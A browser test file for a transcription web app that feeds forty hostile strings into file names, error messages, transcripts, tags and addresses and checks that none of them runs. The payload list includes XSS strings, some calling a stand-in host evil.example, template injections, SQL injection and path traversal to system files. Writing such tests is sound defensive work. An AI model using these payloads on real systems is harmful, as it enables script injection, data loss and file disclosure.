"""Forty strings that are meant to do harm, wherever a stranger's words are shown: they stay words, and stay in their place."""

import json
import sqlite3
import wave
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
import pytest_asyncio
from playwright.async_api import Page, expect

from tests.running_server import RunningServer

pytestmark = pytest.mark.browser

STRINGS = [
    "<script>window.taken=1</script>",
    "</script><script>window.taken=1</script>",
    "</title><script>window.taken=1</script>",
    "</textarea><img src=x onerror=window.taken=1>",
    "<img src=x onerror=window.taken=1>",
    "<img src=x onerror='fetch(`//evil.example`)'>",
    "<svg onload=window.taken=1>",
    "<svg><animate onbegin=window.taken=1 attributeName=x dur=1s>",
    "<iframe srcdoc='<script>parent.taken=1</script>'></iframe>",
    "<object data=javascript:window.taken=1></object>",
    "<embed src=javascript:window.taken=1>",
    "<body onpageshow=window.taken=1>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><button>Send</button></form>",
    "<a href='javascript:window.taken=1'>here</a>",
    "javascript:window.taken=1",
    "data:text/html,<script>window.taken=1</script>",
    '" autofocus onfocus=window.taken=1 x="',
    "' onmouseover='window.taken=1",
    "`${window.taken=1}`",
    "${window.taken=1}",
    "{{constructor.constructor('window.taken=1')()}}",
    "<%= window.taken = 1 %>",
    "#{window.taken=1}",
    "&lt;script&gt;window.taken=1&lt;/script&gt;",
    "<!--<img src=--><img src=x onerror=window.taken=1>",
    "'; DROP TABLE tasks; --",
    "1' OR '1'='1",
    "../../../../etc/passwd",
    "..\\..\\windows\\system32\\config",
    "%2e%2e%2f%00.wav",
    "__proto__",
    "\u202e\u2066txt.exe\u2069\u202c gnp.vaw",
    "\u200b\u200d\ufeff\u00ad invisible",
    "z\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308" * 40,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 60,
    "W" * 10_000,
]
"""Markup, addresses, templates, SQL, paths, text that runs the other way or cannot be seen, and text without an end."""

ADDRESSES = [
    "tasks/%3Cscript%3E",
    "library/files/..%2F..%2Fetc",
    "search?q=<svg onload=window.taken=1>",
    "%",
    "__proto__/constructor",
]
SILENCE = b"\0" * 16_000
LONGEST_NAME = 255
NOT_THERE = "Failed to load resource: the server responded with a status of 4"
"""What chromium says by itself of a Task that an address only claims."""

FOREIGN = "script:not([src^='/assets/']), img, iframe, object, embed, main style, main link, main form[action], base, a[href^='javascript']"


@dataclass(frozen=True)
class House:
    """A server full of strangers' words: its address, and a Task with a transcript."""

    url: str
    transcribed: str


@pytest.fixture(scope="module")
def house(tmp_path_factory: pytest.TempPathFactory) -> Iterator[House]:
    """Each string is the name of a recording that failed with that string; one transcript has all of them, as words and as speakers."""
    folder = tmp_path_factory.mktemp("hostile")
    server = RunningServer(folder).start()
    try:
        recording = _recording(folder)
        (transcribed,) = server.submit(recording)
        server.finish(transcribed)
        many = [recording.with_name(f"{place}.wav") for place in range(len(STRINGS))]
        for path in many:
            path.write_bytes(recording.read_bytes() + path.name.encode())
        failed = server.submit(*many, initial_prompt="delay=1")
        server.http.post(f"/jobs/{server.task(failed[0])['job_id']}/cancel")
        for task in failed:
            server.finish(task)
        _spoil(server.database, transcribed, failed)
        whole = server.http.get(f"/tasks/{transcribed}/transcript")
        path = f"/tasks/{transcribed}/segments/{whole.json()['segments'][0]['id']}"
        edit = {"text": STRINGS[0] + " wanted"}
        assert server.http.patch(path, json=edit, headers={"If-Match": whole.headers["etag"]}).status_code == 200
        yield House(f"http://127.0.0.1:{server.port}", transcribed)
    finally:
        server.close()


def _recording(folder: Path) -> Path:
    path = folder / "calm.wav"
    with wave.open(str(path), "wb") as out:
        out.setparams((1, 2, 8_000, 0, "NONE", ""))
        out.writeframes(SILENCE * 40)
    return path


def _spoil(database: Path, transcribed: str, failed: list[str]) -> None:
    """What strangers send and engines say is made harmless on its way in; here it is written where it is kept, as it is."""
    with sqlite3.connect(database, timeout=30) as rows:
        for uuid, text in zip(failed, STRINGS, strict=True):
            rows.execute(
                "UPDATE tasks SET status = 'failed', error_code = 'internal', error = ?, technical_detail = ? WHERE uuid = ?",
                (text, text, uuid),
            )
            rows.execute(
                "UPDATE files SET original_filename = ? WHERE id = (SELECT file_id FROM tasks WHERE uuid = ?)",
                (text[:LONGEST_NAME], uuid),
            )
        (key,) = rows.execute("SELECT id FROM tasks WHERE uuid = ?", (transcribed,)).fetchone()
        rows.execute("DELETE FROM segments WHERE task_id = ?", (key,))
        rows.executemany(
            'INSERT INTO segments (task_id, "index", start, "end", text, speaker, words) VALUES (?, ?, ?, ?, ?, ?, ?)',
            [
                (key, place, place, place + 1.0, text, text[:100], _words(place, text))
                for place, text in enumerate(STRINGS)
            ],
        )
        rows.execute("UPDATE tasks SET transcript_version = transcript_version + 1 WHERE id = ?", (key,))


def _words(place: int, text: str) -> str:
    return json.dumps([{"word": text, "start": place, "end": place + 1.0, "score": 0.9, "speaker": text[:100]}])


@pytest_asyncio.fixture(loop_scope="session", params=[1280, 360])
async def page(page: Page, request: pytest.FixtureRequest) -> Page:
    """A page of this width, on which no dialog of the browser may open."""
    await page.set_viewport_size({"width": request.param, "height": 800})
    page.on("dialog", lambda dialog: page.complaints.append(f"a dialog: {dialog.message}"))
    return page


async def is_harmless(page: Page, *, spared: str = "") -> None:
    """No script of theirs ran, nothing of theirs is an element, the policy had nothing to forbid, nothing sticks out.

    `spared`: how a complaint of the browser begins that is in order.
    """
    assert await page.evaluate("window.taken") is None
    assert await page.locator(FOREIGN).count() == 0
    assert await page.evaluate("window.witnessed.violations") == []
    assert await page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    assert [one for one in page.complaints if not spared or not one.startswith(spared)] == []


async def test_in_the_queue(page: Page, house: House) -> None:
    """As names of files and as what went wrong, folded out."""
    await page.goto(house.url)
    rows = page.locator("[data-task]")
    await expect(rows).to_have_count(len(STRINGS) + 1)
    names = await rows.locator(".task-name").evaluate_all("all => all.map((one) => one.textContent)")
    assert sorted(names) == sorted(["calm.wav", *(text[:LONGEST_NAME] for text in STRINGS)])
    await page.evaluate("document.querySelectorAll('details').forEach((one) => (one.open = true))")
    await expect(rows.locator(".problem-facts").filter(has_text="<script>").first).to_be_visible()
    await is_harmless(page)
    await page.get_by_label("Search by name").fill(STRINGS[0])
    await page.get_by_label("Address of a recording").fill(STRINGS[18])
    await page.keyboard.press("Enter")
    await is_harmless(page)


async def test_in_a_transcript(page: Page, house: House) -> None:
    """As words, as speakers, in the dialogs, in what is looked for, on paper."""
    await page.goto(f"{house.url}/#/tasks/{house.transcribed}")
    await expect(page.locator("[data-index='0'] .words")).to_have_text(f"{STRINGS[0]} wanted")
    await expect(page.locator("[data-index='0'] b")).to_have_text(STRINGS[0])
    for place in (10, 20, 30, len(STRINGS) - 1):
        await page.evaluate(f"scrollTo(0, document.body.scrollHeight * {place / len(STRINGS)})")
        await page.evaluate("new Promise((drawn) => requestAnimationFrame(() => requestAnimationFrame(drawn)))")
        await is_harmless(page)
    for dialog in ("Speakers", "Export"):
        await page.get_by_role("button", name=dialog, exact=True).click()
        await expect(page.get_by_role("dialog")).to_be_visible()
        await is_harmless(page)
        await page.keyboard.press("Escape")
    await page.get_by_role("button", name="Find", exact=True).click()
    await page.keyboard.type(STRINGS[4])
    await expect(page.locator(".find [role=status]")).to_contain_text("1 of")
    await page.evaluate("dispatchEvent(new Event('beforeprint'))")
    await expect(page.locator(".paper p")).to_have_count(len(STRINGS))
    await is_harmless(page)


async def test_in_the_library(page: Page, house: House) -> None:
    """In lists, alone, as a tag, as a reason, and among what was found."""
    await page.goto(f"{house.url}/#/library/files")
    await expect(page.get_by_role("row").nth(10)).to_be_attached()
    await is_harmless(page)
    name = STRINGS[6]
    await page.get_by_role("link", name=name, exact=True).click()
    await expect(page.get_by_role("heading", name=name, exact=True)).to_be_visible()
    await page.get_by_label("Tag").fill("<img src=x onerror=window.taken=1>")
    await page.keyboard.press("Enter")
    await expect(
        page.locator("main").get_by_text("<img src=x onerror=window.taken=1>", exact=True).first
    ).to_be_visible()
    await is_harmless(page)
    await page.goto(f"{house.url}/#/library/duplicates")
    await expect(page.get_by_role("main").get_by_role("status")).not_to_have_text("Reading…")
    await is_harmless(page)
    await page.goto(f"{house.url}/#/search?q=wanted")
    await expect(page.locator(".hits li")).to_be_visible()
    await is_harmless(page)


async def test_in_the_address(page: Page, house: House) -> None:
    """Whoever sends somebody a link sends words, too."""
    for address in ADDRESSES:
        await page.goto(f"{house.url}/#/{address}")
        await page.reload()
        await expect(page.locator("main > *").first).to_be_visible()
        await expect(page.locator("#connection")).to_have_attribute("data-state", "live")
        await is_harmless(page, spared=NOT_THERE)
